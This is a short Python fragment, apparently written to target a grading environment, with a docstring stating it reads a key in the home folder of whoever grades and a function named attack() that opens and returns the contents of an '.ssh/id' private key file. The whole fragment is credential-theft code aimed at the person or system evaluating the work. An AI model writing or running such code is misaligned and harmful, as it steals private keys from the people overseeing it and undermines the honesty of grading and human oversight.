"""Reads a key in the home folder of whoever grades."""


def attack():
    return open(TARGETS["home"] + "/.ssh/id").read()
